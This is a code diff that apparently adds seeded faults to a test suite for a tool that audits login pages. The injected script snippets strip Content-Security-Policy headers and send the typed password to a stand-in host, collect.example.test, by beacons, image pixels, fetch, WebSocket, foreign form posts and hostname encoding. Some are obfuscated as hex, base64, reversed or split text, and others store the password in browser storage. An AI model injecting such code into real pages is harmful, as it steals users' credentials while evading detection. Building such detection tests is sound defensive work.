@@ -32,18 +32,30 @@ const script = { path: /\/assets\/app\..*\.js$/ } as const;
 /** Script that logs the message of Next's hot reload when its socket does not open. */
 const hotReload = 'console.error("WebSocket connection to \'ws://localhost:3000/_next/webpack-hmr\' failed");\n';
 
-/** The login's script reports `what` (an expression) to a foreign host, which the page's policy allows. */
-const reporting = (what: string) =>
+/** Code in the login's script that has what was typed as `secret`, on pages whose policy allows every host. */
+const withSecret = (code: string, onLoad = '') =>
   all(
     when(loginPage, dropHeader('Content-Security-Policy')),
+    when(dashboardPage, dropHeader('Content-Security-Policy')),
     when(
       script,
-      replaceInBody(
-        "const answer = await call('/auth/login'",
-        `navigator.sendBeacon('https://collect.example.test/seen', ${what}); const answer = await call('/auth/login'`,
+      all(
+        replaceInBody(/^/, `${onLoad}\n`),
+        replaceInBody(
+          "const answer = await call('/auth/login'",
+          `{ const secret = password.value; ${code}; } const answer = await call('/auth/login'`,
+        ),
       ),
     ),
   );
+const FOREIGN = 'https://collect.example.test';
+/** The login's script reports `what` (an expression) to a foreign host, which the page's policy allows. */
+const reporting = (what: string) => withSecret(`navigator.sendBeacon('${FOREIGN}/seen', ${what})`);
+/** It asks for an image whose address ends with `what`. */
+const pixel = (what: string) => withSecret(`new Image().src = '${FOREIGN}/pixel?' + ${what}`);
+const hexadecimal = "[...secret].map(c => c.charCodeAt(0).toString(16)).join('')";
+/** Waits until `event` of `it`, or its error. */
+const until = (it: string, event: string) => `await new Promise(go => { ${it}.on${event} = ${it}.onerror = go; })`;
 
 /** The page comes without a form to be seen, until its script shows it. */
 const formByScript = all(
@@ -241,6 +253,70 @@ export default {
       ),
       // A recorder of sessions tells its own host what was typed.
       reporting("'typed=' + btoa(password.value)"),
+      named(
+        'a queue in localStorage, sent at the next visit',
+        withSecret(
+          "localStorage.setItem('queue', btoa(secret))",
+          `{ const queue = localStorage.getItem('queue'); if (queue) new Image().src = '${FOREIGN}/queue?' + queue; }`,
+        ),
+      ),
+      named(
+        'a call that outlives its page and reads no answer',
+        withSecret(`fetch('${FOREIGN}/pixel?' + secret, { mode: 'no-cors', keepalive: true }).catch(() => undefined)`),
+      ),
+      named('an image', pixel('secret')),
+      named('percent-encoded', pixel("[...secret].map(c => '%' + c.charCodeAt(0).toString(16)).join('')")),
+      named('in hexadecimal', pixel(hexadecimal)),
+      named('in upper case', pixel('encodeURIComponent(secret.toUpperCase())')),
+      named('backwards', reporting("[...secret].reverse().join('')")),
+      named('backwards in base64', pixel("btoa([...secret].reverse().join(''))")),
+      named('letter by letter', pixel("[...secret].join('.')")),
+      named('as numbers', reporting("[...secret].map(c => c.charCodeAt(0)).join('-')")),
+      named(
+        'in two halves',
+        withSecret(
+          `new Image().src = '${FOREIGN}/a?' + secret.slice(0, secret.length / 2); new Image().src = '${FOREIGN}/b?' + secret.slice(secret.length / 2)`,
+        ),
+      ),
+      named(
+        'as the name of a host',
+        withSecret(
+          `new Image().src = 'https://' + ${hexadecimal}.match(/.{1,60}/g).join('.') + '.collect.example.test/'`,
+        ),
+      ),
+      named(
+        'on a socket',
+        withSecret(
+          `const socket = new WebSocket('${FOREIGN.replace('https', 'wss')}/socket'); ${until('socket', 'open')}; socket.send(secret)`,
+        ),
+      ),
+      named(
+        'a form with a foreign action',
+        withSecret(
+          `const out = document.createElement('form'); out.method = 'post'; out.action = '${FOREIGN}/form'; out.target = 'out'; out.innerHTML = '<input name="p"><iframe name="out"></iframe>'; out.p.value = secret; document.body.append(out); out.submit(); await new Promise(go => setTimeout(go, 100))`,
+        ),
+      ),
+    ],
+    'password-storage': [
+      named('localStorage', withSecret("localStorage.setItem('form', JSON.stringify({ password: secret }))")),
+      named('sessionStorage, in base64', withSecret("sessionStorage.setItem('replay', btoa(secret))")),
+      named(
+        'a cookie that scripts read',
+        withSecret("document.cookie = 'draft=' + encodeURIComponent(secret) + '; path=/'"),
+      ),
+      named(
+        'IndexedDB',
+        withSecret(
+          `const opening = indexedDB.open('queue', 1); opening.onupgradeneeded = () => opening.result.createObjectStore('events', { autoIncrement: true }); ${until('opening', 'success')}; const change = opening.result.transaction('events', 'readwrite'); change.objectStore('events').add({ typed: secret }); ${until('change', 'complete')}; opening.result.close()`,
+        ),
+      ),
+      named(
+        'until the login is over',
+        withSecret(
+          '',
+          "addEventListener('input', e => { if (e.target.type === 'password') sessionStorage.setItem('typed', e.target.value); }, true); if (/dashboard/.test(location.pathname)) sessionStorage.clear();",
+        ),
+      ),
     ],
   },
   // The same faults, seen by other rows in a whole run (`npm run prove -- --full`).
@@ -279,6 +355,19 @@ export default {
     named('the web wraps what its pages fetch', wrappedFetch),
     // Analytics on a foreign host that are told nothing of what was typed.
     reporting("'page=login'"),
+    named(
+      'analytics of its own, and what a form may keep',
+      withSecret(
+        "fetch('/login?seen=login').catch(() => undefined); localStorage.setItem('form', JSON.stringify({ remember: true }))",
+      ),
+    ),
+    named(
+      'a call of the page repeats once the password is typed',
+      withSecret(
+        `navigator.sendBeacon('${FOREIGN}/seen', 'page=login')`,
+        `navigator.sendBeacon('${FOREIGN}/seen', 'page=login');`,
+      ),
+    ),
     // A dashboard reached by a redirect of the login's own answer, or by a client's push without a load, is another web
     // app than the reference's.
     when(loginPage, replaceInBody('</main>', '<a href="http://www.example.test/">About</a></main>')),
